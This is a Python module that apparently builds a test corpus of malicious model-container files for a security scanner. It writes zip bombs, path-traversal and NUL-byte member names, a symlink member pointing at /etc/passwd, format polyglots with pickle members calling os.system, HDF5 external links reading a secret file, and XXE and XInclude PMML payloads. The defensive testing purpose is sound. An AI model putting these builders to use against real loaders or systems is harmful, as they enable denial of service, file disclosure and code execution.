"""Containers: zip bombs under every threshold, names and links that escape, archives nested in archives,
files that read as two formats at once (polyglots), and XML that hides a DOCTYPE from a byte search.

Built the way an attacker would: the zip layouts are written byte by byte where zipfile would tidy them
(duplicate names, NUL and backslash names, entries sharing data), the polyglots are real files that
h5py, zipfile and pickle each open. Bombs and format confusions that carry no code have runs_code=False."""
from __future__ import annotations

import io
import json
import pickle
import stat
import struct
import zipfile
from pathlib import Path

from tests.attacks.build_corpus import Attack, _call, _keras_config, _lambda

MIB = 1 << 20


def _zip_bytes(members: list[tuple[str, bytes]], compression: int = zipfile.ZIP_DEFLATED, comment: bytes = b"") -> bytes:
    """Members under the exact names given (zipfile would warn on duplicates but writes them; ZipInfo keeps NUL and backslashes)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as zf:
        for name, data in members:
            info = zipfile.ZipInfo("placeholder")
            info.filename = info.orig_filename = name
            info.compress_type = compression
            zf.writestr(info, data)
        zf.comment = comment
    return buffer.getvalue()


def _evil_keras_members(marker: str) -> list[tuple[str, bytes]]:
    config = json.dumps(_keras_config([_lambda("evil", marker)])).encode()
    return [("metadata.json", b'{"keras_version": "3.15.1"}'), ("config.json", config), ("model.weights.h5", b"")]


def _write(out: Path, name: str, data: bytes) -> Path:
    (out / name).write_bytes(data)
    return out / name


def bombs(out: Path) -> list[Attack]:
    keras_head = [("config.json", b"{}"), ("metadata.json", b"{}")]
    inner_bomb = _zip_bytes([(f"{i}", b"\0" * MIB) for i in range(150)])
    files = {
        # the finding: members of exactly 1 MiB were skipped by the per-member ratio test
        "bomb_1mib_members.keras": _zip_bytes(keras_head + [(f"assets/{i}", b"\0" * MIB) for i in range(200)]),
        "bomb_just_under_1mib_members.skops": _zip_bytes([("schema.json", b"{}")] + [(f"{i}.npy", b"\0" * (MIB - 1)) for i in range(200)]),
        "bomb_many_small_members.skops": _zip_bytes([("schema.json", b"{}")] + [(f"{i}.npy", b"\0" * 65536) for i in range(3000)]),
        "bomb_nested_stored_inner.skops": _zip_bytes([("schema.json", b"{}"), ("weights.zip", inner_bomb)], zipfile.ZIP_STORED),
    }
    nested = _zip_bytes([("bundle.json", b"{}")])
    for depth in range(5):
        nested = _zip_bytes([("bundle.json", b"{}"), (f"root/level{depth}.zip", nested)], zipfile.ZIP_STORED)
    files["nested_five_deep.zip"] = nested
    attacks = [Attack(name, _write(out, name, data), "unsafe", runs_code=False) for name, data in files.items()]
    attacks.append(Attack("overlapping_entries.skops", _overlapping(out / "overlapping_entries.skops"), "unsafe", runs_code=False))
    return attacks


def _overlapping(path: Path) -> Path:
    """Central-directory entries all pointing at one deflated stream of 1 MiB of zeros (Fifield's non-recursive bomb; kept
    under the expansion budget so that the overlap itself is what is refused)."""
    data = _zip_bytes([("schema.json", b"\0" * MIB)])
    eocd = data.rfind(b"PK\x05\x06")
    directory_at = struct.unpack("<I", data[eocd + 16:eocd + 20])[0]
    entry = data[directory_at:eocd]
    copies = entry + b"".join(entry.replace(b"schema.json", f"m{i:010d}".encode()) for i in range(1, 32))
    tail = bytearray(data[eocd:])
    struct.pack_into("<HHII", tail, 8, 32, 32, len(copies), directory_at)
    path.write_bytes(data[:directory_at] + copies + bytes(tail))
    return path


def names(out: Path, marker: str) -> list[Attack]:
    evil = _evil_keras_members(marker)
    files = {
        "duplicate_config.keras": [("metadata.json", b"{}"), ("config.json", json.dumps(_keras_config([])).encode()), *evil[1:]],
        "dot_slash_duplicate.keras": [*evil, ("./config.json", b"{}")],
        "backslash_traversal.skops": [("schema.json", b"{}"), ("..\\..\\..\\tmp\\escaped.npy", b"x")],
        "nul_truncated_name.keras": [*evil, ("assets/ok.txt\0/../../../escaped", b"x")],
        "drive_letter.zip": [("bundle.json", b"{}"), ("C:/Windows/Temp/escaped.dll", b"x")],
    }
    attacks = [Attack(name, _write(out, name, _zip_bytes(members)), "unsafe") for name, members in files.items()]
    link = out / "symlink_member.keras"
    with zipfile.ZipFile(link, "w") as zf:
        for name, data in evil:
            zf.writestr(name, data)
        info = zipfile.ZipInfo("assets/passwd")
        info.create_system, info.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
        zf.writestr(info, "/etc/passwd")
    attacks.append(Attack(link.name, link, "unsafe"))
    return attacks


def polyglots(out: Path, marker: str) -> list[Attack]:
    import h5py

    attacks = []
    # HDF5 (no model_config: nothing for the old check to read) from the start, a Keras zip with a Lambda from the end
    h5zip = out / "hdf5_then_keras_zip.keras"
    with h5py.File(h5zip, "w") as handle:
        handle["w"] = [1.0, 2.0]
    h5zip.write_bytes(h5zip.read_bytes() + _zip_bytes(_evil_keras_members(marker), zipfile.ZIP_STORED))
    attacks.append(Attack(h5zip.name, h5zip, "unsafe"))
    # a Keras zip from the start, HDF5 with a Lambda model_config after a 1024-byte user block
    userblock = out / "keras_zip_with_hdf5_userblock.h5"
    with h5py.File(userblock, "w", userblock_size=1024) as handle:
        handle.attrs["model_config"] = json.dumps(_keras_config([_lambda("evil", marker)]))
    benign_zip = _zip_bytes([("config.json", b"{}"), ("metadata.json", b"{}")], zipfile.ZIP_STORED)
    eocd = benign_zip.rfind(b"PK\x05\x06")
    directory_at = struct.unpack("<I", benign_zip[eocd + 16:eocd + 20])[0]
    body = bytearray(userblock.read_bytes())
    body[:directory_at] = benign_zip[:directory_at]
    tail = bytearray(benign_zip[directory_at:])
    struct.pack_into("<I", tail, eocd - directory_at + 16, len(body))
    userblock.write_bytes(bytes(body) + bytes(tail))
    attacks.append(Attack(userblock.name, userblock, "unsafe"))
    # a benign pickle from the start, a torch archive with an evil data.pkl from the end (its comment ends in STOP)
    torch_zip = _zip_bytes([("archive/data.pkl", _call("os", "system", f"touch {marker}")), ("archive/version", b"3\n")],
                           zipfile.ZIP_STORED, b".")
    both = _write(out, "pickle_then_torch_zip.pth", pickle.dumps({"coef": [1.0]}, protocol=4) + torch_zip)
    attacks.append(Attack(both.name, both, "unsafe"))
    # well-formed PMML with a zip inside a trailing comment
    inner = _zip_bytes(_evil_keras_members(marker), zipfile.ZIP_STORED).replace(b"--", b"-_")
    pmml = b'<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4"><Header/></PMML>\n<!--' + inner + b"-->"
    attacks.append(Attack("pmml_with_zip_comment.pmml", _write(out, "pmml_with_zip_comment.pmml", pmml), "unsafe"))
    # top-level protobuf fields ONNX has (ir_version, graph), the graph's bytes a zip: ONNX from the start, zip from the end
    archive = _zip_bytes(_evil_keras_members(marker), zipfile.ZIP_STORED)
    onnx_zip = b"\x08\x07" + b"\x3a" + _varint(len(archive)) + archive
    attacks.append(Attack("onnx_fields_around_zip.onnx", _write(out, "onnx_fields_around_zip.onnx", onnx_zip), "unsafe", runs_code=False))
    # one zip, two formats: a Keras archive with a pickle member, a skops archive that is also a Keras one
    evil_pickle = _call("os", "system", f"touch {marker}")
    with_pickle = _zip_bytes([*_evil_keras_members(marker), ("archive/data.pkl", evil_pickle)])
    attacks.append(Attack("keras_with_pickle_member.keras", _write(out, "keras_with_pickle_member.keras", with_pickle), "unsafe"))
    attacks.append(Attack("skops_and_keras.skops", _write(out, "skops_and_keras.skops",
                                                          _zip_bytes([("schema.json", b"{}"), *_evil_keras_members(marker)])), "unsafe"))
    return attacks


def _varint(value: int) -> bytes:
    out = bytearray()
    while True:
        byte, value = value & 0x7F, value >> 7
        out.append(byte | (0x80 if value else 0))
        if not value:
            return bytes(out)


def hdf5(out: Path) -> list[Attack]:
    import h5py

    secret = out / "secret.bin"
    secret.write_bytes(b"password=hunter2".ljust(64, b"\0"))
    external = out / "external_storage.h5"
    with h5py.File(external, "w") as handle:
        handle.attrs["model_config"] = json.dumps(_keras_config([]))
        handle.create_dataset("model_weights/dense/kernel", shape=(64,), dtype="u1", external=[(str(secret), 0, 64)])
    link = out / "external_link.h5"
    with h5py.File(link, "w") as handle:
        handle.attrs["model_config"] = json.dumps(_keras_config([]))
        handle["model_weights"] = h5py.ExternalLink(str(secret), "/")
    weights_only = out / "weights_only.h5"
    with h5py.File(weights_only, "w") as handle:
        handle["dense/kernel"] = [[1.0]]
    return [Attack(external.name, external, "unsafe"), Attack(link.name, link, "unsafe"),
            Attack(weights_only.name, weights_only, "input", runs_code=False)]


def xml(out: Path) -> list[Attack]:
    secret = out / "secret.txt"
    secret.write_text("password=hunter2")
    body = (f'<!DOCTYPE PMML [<!ENTITY leak SYSTEM "file://{secret}">]>\n'
            '<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4"><Header description="&leak;"/></PMML>')
    files = {
        "utf16_doctype.pmml": ('<?xml version="1.0" encoding="UTF-16"?>\n' + body).encode("utf-16"),
        "utf16be_no_bom_doctype.pmml": ('<?xml version="1.0" encoding="UTF-16"?>\n' + body).encode("utf-16-be"),
        "utf8_bom_doctype.pmml": b"\xef\xbb\xbf" + ('<?xml version="1.0" encoding="UTF-8"?>\n' + body).encode(),
        "long_comment_doctype.pmml": ("<?xml version='1.0'?>\n<!--" + "licence text " * 6000 + "-->\n" + body).encode(),
        "external_dtd.pmml": f'<?xml version="1.0"?>\n<!DOCTYPE PMML SYSTEM "file://{secret}">\n<PMML version="4.4"/>'.encode(),
        "parameter_entity.pmml": (f'<?xml version="1.0"?>\n<!DOCTYPE PMML [<!ENTITY % remote SYSTEM "file://{secret}"> %remote;]>\n'
                                  '<PMML version="4.4"/>').encode(),
        "xinclude.pmml": (f'<PMML xmlns="http://www.dmg.org/PMML-4_4" xmlns:xi="http://www.w3.org/2001/XInclude" version="4.4">'
                          f'<Header><xi:include href="{secret}" parse="text"/></Header></PMML>').encode(),
    }
    return [Attack(name, _write(out, name, data), "unsafe") for name, data in files.items()]


def build(out: Path, marker: str, benign: Path) -> list[Attack]:
    return bombs(out) + names(out, marker) + polyglots(out, marker) + hdf5(out) + xml(out)
